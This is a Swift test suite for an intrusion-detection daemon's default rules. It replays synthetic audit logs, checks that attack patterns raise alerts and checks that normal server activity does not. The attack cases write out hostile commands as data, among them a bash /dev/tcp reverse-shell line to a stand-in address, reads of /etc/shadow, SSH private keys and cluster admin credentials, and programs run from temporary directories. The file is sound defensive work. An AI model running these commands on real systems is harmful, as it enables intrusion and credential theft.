import CommandOutput
import Configuration
import ConfiguredRules
import EventModel
import Foundation
import Outputs
import TestSupport
import Testing

@testable import Daemon

struct RuleCase: Sendable, CustomTestStringConvertible {
    let testDescription: String
    /// The rules whose alerts the log raises, in order.
    let expected: [String]
    let log: String

    init(_ testDescription: String, _ expected: [String], _ build: (inout AuditLogBuilder) -> Void) {
        var builder = AuditLogBuilder()
        build(&builder)
        (self.testDescription, self.expected, log) = (testDescription, expected, builder.text)
    }

    private static let shell = ["Shell spawned by a server program"]
    private static let child = ["Unexpected child process of a server"]
    private static let sensitive = ["Sensitive file read by an untrusted program"]
    private static let binary = ["Write below a binary directory"]
    private static let temporary = ["Program run from memory or a temporary directory"]
    private static let connection = ["Outbound connection by a shell"]
    private static let networkShell = ["Network shell written on a command line"]
    private static let standard = ["Standard input or output of a process tied to a network connection"]

    static let attacks = [
        RuleCase("nginx runs a shell", shell) {
            $0.exec("/usr/sbin/nginx", ["nginx"], pid: 100, parent: 1)
            $0.exec("/usr/bin/sh", ["sh", "-c", "id"], pid: 101, parent: 100)
        },
        RuleCase("a shell two below php-fpm", shell) {
            $0.exec("/usr/sbin/php-fpm8.2", ["php-fpm"], pid: 100, parent: 1)
            $0.exec("/usr/bin/sendmail", ["sendmail"], pid: 101, parent: 100)
            $0.exec("/usr/bin/bash", ["bash", "-i"], pid: 102, parent: 101)
        },
        RuleCase("Tomcat runs a shell", shell) {
            $0.exec("/usr/lib/jvm/bin/java", ["java", "org.apache.catalina.startup.Bootstrap"], pid: 100, parent: 1)
            $0.exec("/usr/bin/sh", ["sh", "-c", "id"], pid: 101, parent: 100)
        },
        RuleCase("mysqld runs a program", child) {
            $0.exec("/usr/sbin/mysqld", ["mysqld"], pid: 100, parent: 1)
            $0.exec("/usr/bin/id", ["id"], pid: 101, parent: 100)
        },
        RuleCase("cat reads /etc/shadow", sensitive) {
            $0.exec("/usr/bin/cat", ["cat", "/etc/shadow"], pid: 101, parent: 100)
            $0.open("/etc/shadow", flags: 0)
        },
        RuleCase("python reads root's SSH key", sensitive) {
            $0.exec("/usr/bin/python3", ["python3", "x.py"], pid: 101, parent: 100)
            $0.open("/root/.ssh/id_ed25519", flags: 0)
        },
        RuleCase("curl reads the cluster's admin credentials", sensitive) {
            $0.exec("/usr/bin/curl", ["curl"], pid: 101, parent: 100)
            $0.open("/etc/kubernetes/admin.conf", flags: 0)
        },
        RuleCase("ssh reads /etc/shadow, which is no SSH file", sensitive) {
            $0.exec("/usr/bin/ssh", ["ssh"], pid: 101, parent: 100)
            $0.open("/etc/shadow", flags: 0)
        },
        RuleCase("cp writes below /usr/bin", binary) {
            $0.exec("/usr/bin/cp", ["cp", "x", "/usr/bin/ls"], pid: 101, parent: 100)
            $0.open("/usr/bin/ls", flags: 0o1 | 0o100)
        },
        RuleCase("creat below /sbin", binary) {
            $0.exec("/opt/dropper", ["dropper"], pid: 101, parent: 100)
            $0.create("/sbin/agent")
        },
        RuleCase("mv replaces a program", binary) {
            $0.exec("/usr/bin/mv", ["mv", "/srv/x", "/usr/local/bin/x"], pid: 101, parent: 100)
            $0.rename("/srv/x", to: "/usr/local/bin/x")
        },
        RuleCase("a program in /dev/shm", temporary) { $0.exec("/dev/shm/x", ["/dev/shm/x"], pid: 101, parent: 100) },
        RuleCase("a program in /tmp", temporary) { $0.exec("/tmp/miner", ["./miner"], pid: 101, parent: 100) },
        RuleCase("a program in memory", temporary) {
            $0.exec("/memfd:x (deleted)", ["kworker/0:1"], pid: 101, parent: 100)
        },
        RuleCase("bash connects to another machine", networkShell + connection) {
            $0.exec("/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/198.51.100.7/4444"], pid: 101, parent: 100)
            $0.connect([198, 51, 100, 7], port: 4444)
        },
        RuleCase("a reverse shell in Python", standard) {
            $0.exec("/usr/bin/python3", ["python3", "-c", "…"], pid: 101, parent: 100)
            $0.connect([198, 51, 100, 7], port: 4444)
            $0.duplicate(onto: 0)
        },
    ]

    static let harmless = [
        RuleCase("apache2 starts its log rotation", []) {
            $0.exec("/usr/sbin/apache2", ["apache2", "-k", "start"], pid: 100, parent: 1)
            $0.exec("/usr/bin/sh", ["sh", "-c", "rotatelogs /var/log/a 86400"], pid: 101, parent: 100)
            $0.exec("/usr/bin/rotatelogs", ["rotatelogs", "/var/log/a", "86400"], pid: 102, parent: 100)
        },
        RuleCase("postgres archives its log", []) {
            $0.exec("/usr/lib/postgresql/15/bin/postgres", ["postgres"], pid: 100, parent: 1)
            $0.exec("/usr/bin/sh", ["sh", "-c", "test ! -f /b/1 && cp pg_wal/1 /b/1"], pid: 101, parent: 100)
        },
        RuleCase("nginx starts its successor", []) {
            $0.exec("/usr/sbin/nginx", ["nginx"], pid: 100, parent: 1)
            $0.exec("/usr/sbin/nginx", ["nginx"], pid: 101, parent: 100)
        },
        RuleCase("sudo reads what it must", []) {
            $0.exec("/usr/bin/sudo", ["sudo", "id"], pid: 101, parent: 100)
            for file in ["/etc/sudoers", "/etc/sudoers.d/README", "/etc/pam.d/sudo", "/etc/shadow"] {
                $0.open(file, flags: 0)
            }
        },
        RuleCase("a maintainer script below dpkg reads and writes", []) {
            $0.exec("/usr/bin/dpkg", ["dpkg", "-i", "x.deb"], pid: 100, parent: 1)
            $0.exec("/usr/bin/perl", ["perl", "/var/lib/dpkg/info/x.postinst"], pid: 101, parent: 100)
            $0.open("/etc/shadow", flags: 0)
            $0.open("/usr/bin/x", flags: 0o101)
        },
        RuleCase("dpkg replaces a program", []) {
            $0.exec("/usr/bin/dpkg", ["dpkg", "-i", "x.deb"], pid: 100, parent: 1)
            $0.open("/usr/bin/x.dpkg-new", flags: 0o101)
            $0.rename("/usr/bin/x.dpkg-new", to: "/usr/bin/x")
        },
        RuleCase("ssh reads its key, kubectl its credentials", []) {
            $0.exec("/usr/bin/ssh", ["ssh", "host"], pid: 101, parent: 100)
            $0.open("/root/.ssh/id_ed25519", flags: 0)
            $0.exec("/usr/bin/kubectl", ["kubectl", "wait", "pods"], pid: 102, parent: 100)
            $0.open("/root/.kube/config", flags: 0)
        },
        RuleCase("cat may not read /etc/shadow", []) {
            $0.exec("/usr/bin/cat", ["cat", "/etc/shadow"], pid: 101, parent: 100)
            $0.open("/etc/shadow", flags: 0, succeeds: false)
        },
        RuleCase("cat reads the public half of a key", []) {
            $0.exec("/usr/bin/cat", ["cat"], pid: 101, parent: 100)
            $0.open("/root/.ssh/id_ed25519.pub", flags: 0)
        },
        RuleCase("a user's programs in usual places", []) {
            $0.exec("/usr/bin/bash", ["bash"], pid: 101, parent: 100)
            $0.exec("/usr/bin/ls", ["ls", "/tmp"], pid: 102, parent: 101)
            $0.open("/tmp/file", flags: 0o101)
            $0.exec("/opt/app/bin/app", ["app"], pid: 103, parent: 101)
            $0.connect([198, 51, 100, 7], port: 443)
        },
        RuleCase("go runs a test that it has built", []) {
            $0.exec("/usr/local/go/bin/go", ["go", "test"], pid: 100, parent: 1)
            $0.exec("/tmp/go-build123/b001/x.test", ["/tmp/go-build123/b001/x.test"], pid: 101, parent: 100)
        },
        RuleCase("a start-up script waits for its database, and a shell looks at this machine", []) {
            $0.exec("/usr/bin/bash", ["bash", "/usr/local/bin/wait-for-it.sh", "db:5432"], pid: 101, parent: 100)
            $0.connect([10, 0, 0, 5], port: 5432)
            $0.exec("/usr/bin/bash", ["bash", "-c", "</dev/tcp/127.0.0.1/80"], pid: 102, parent: 100)
            $0.connect([127, 0, 0, 1], port: 80)
        },
        RuleCase("sshd hands its connection to its session", []) {
            $0.exec("/usr/sbin/sshd", ["sshd", "-D"], pid: 101, parent: 1)
            $0.connect([198, 51, 100, 7], port: 22)
            $0.duplicate(onto: 0)
        },
    ]
}

@Suite struct DefaultRulesTests {
    /// Compiled once: it takes longer than all logs together.
    private static let rules = Result<LoadedRules, any Error> {
        var remarks: [LogRemark] = []
        return try LoadedRules.load(Configuration(), isVerbose: false, isFiltered: false, remarks: &remarks)
    }

    /// The names of the rules whose alerts a replay of the log raises.
    private func alerts(of log: String) throws -> [String] {
        let directory = NSTemporaryDirectory() + "shrike-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: directory) }
        try log.write(toFile: directory + "/audit.log", atomically: true, encoding: .utf8)
        var configuration = Configuration()
        configuration.logLevel = .error
        configuration.alertFormat.isJSON = true
        configuration.outputs.file.isEnabled = true
        configuration.outputs.file.target = directory + "/alerts"
        let options = ReplayOptions(configuration: configuration, files: [directory + "/audit.log"])
        #expect(try LogReplay.run(options, rules: Self.rules.get(), log: DaemonLog(threshold: .error)) == .success)
        let lines = try String(contentsOfFile: directory + "/alerts", encoding: .utf8).split(separator: "\n")
        return try lines.map { line in
            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
            return try #require(object?["rule"] as? String)
        }
    }

    @Test(arguments: RuleCase.attacks)
    func `an attack raises its rule's alert`(_ c: RuleCase) throws {
        #expect(try alerts(of: c.log) == c.expected)
    }

    @Test(arguments: RuleCase.harmless)
    func `what happens on a normal node raises nothing`(_ c: RuleCase) throws {
        #expect(try alerts(of: c.log) == [])
    }

    @Test func `every file in rules is part of the binary, in the order in which a directory is loaded`() throws {
        var root = URL(filePath: #filePath)
        for _ in 0..<3 { root.deleteLastPathComponent() }
        let directory = root.appending(path: "rules")
        let names =
            try FileManager.default.contentsOfDirectory(atPath: directory.path())
            .filter { $0.hasSuffix(".yaml") && $0 != "anomaly.yaml" }.sorted() + ["anomaly.yaml"]
        let files = DefaultRules.files + [DefaultRules.novelty]
        #expect(files.map(\.name) == names.map { "\($0) (built in)" })
        for (file, name) in zip(files, names) {
            #expect(try Data(contentsOf: directory.appending(path: name)) == Data(file.bytes), "\(name)")
        }
    }
}
